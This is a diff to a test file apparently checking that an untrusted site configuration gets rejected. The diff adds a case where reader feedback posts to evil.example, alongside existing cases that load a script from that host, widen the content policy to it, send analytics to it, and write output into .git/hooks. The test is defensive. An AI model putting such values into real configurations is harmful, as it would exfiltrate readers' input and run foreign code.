@@ -119,6 +119,7 @@ describe('a configuration of an untrusted site', () => {
     ['publishes what git keeps by a link', `static: 'link'`],
     ['runs a script of another origin', `head: [{ tag: 'script', attrs: { src: 'https://evil.example/x.js' } }]`],
     ['widens the content policy', `contentPolicy: { 'connect-src': ['https://evil.example'] }`],
+    ['sends what readers write elsewhere', `feedback: { post: 'https://evil.example' }`],
     ['counts visits elsewhere', `analytics: { matomo: { id: 1, host: 'https://evil.example' } }`],
     ['writes another folder', `outDir: '../elsewhere'`],
     ['writes among the files of git', `outDir: '.git/hooks'`],
